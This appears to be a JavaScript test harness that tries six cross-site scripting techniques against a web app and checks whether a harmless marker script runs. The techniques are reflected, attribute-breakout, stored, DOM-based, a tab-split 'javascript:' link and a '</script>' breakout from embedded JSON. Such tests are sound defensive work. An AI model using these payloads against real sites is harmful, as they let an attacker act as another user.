import { visit } from './browser.js';

// What the script of the attacker does in Ann's browser. Here it leaves a mark; in earnest it acts as Ann.
const SCRIPT = 'window.owned=1';
const IMAGE = `<img src=x onerror="${SCRIPT}">`;

async function opened(url) {
  const window = await visit(url);
  const worked = window.owned === 1;
  window.close();
  return worked;
}
const post = (url, body) => fetch(url, { method: 'POST', body });

// Each attack resolves to true when its script has run.

/** Reflected: the link that Ann clicks carries the script. */
export const reflected = (base) => opened(`${base}/search?q=${encodeURIComponent(`<script>${SCRIPT}</script>`)}`);

/** Out of an attribute no < is needed: a quote ends the value, and the next attribute is Mallory's. */
export async function outOfTheAttribute(base) {
  const window = await visit(`${base}/search?q=${encodeURIComponent(`" onfocus="${SCRIPT}" autofocus="`)}`);
  window.document.querySelector('input').focus(); // a browser does that by itself, for autofocus
  const worked = window.owned === 1;
  window.close();
  return worked;
}

/** Stored: Mallory writes a review, everybody reads it. */
export async function stored(base) {
  await post(`${base}/reviews`, `Very <b>blue</b>. ${IMAGE}`);
  return opened(`${base}/reviews`);
}

/** DOM-based: what stands after the # never reaches the server. No log has it. */
export const domBased = (base) => opened(`${base}/welcome#${encodeURIComponent(IMAGE)}`);

/** A URL without a single character that HTML would care about. The tab is one that URL parsers drop. */
export async function throughALink(base) {
  await post(`${base}/users`, JSON.stringify({ name: 'Mallory', website: `java\tscript:${SCRIPT}` }));
  return opened(`${base}/users/mallory`);
}

/** Valid JSON, but HTML is parsed first. */
export async function outOfTheScript(base) {
  await post(`${base}/users`, JSON.stringify({ name: `</script><script>${SCRIPT}</script>`, website: '/' }));
  return opened(`${base}/app`);
}
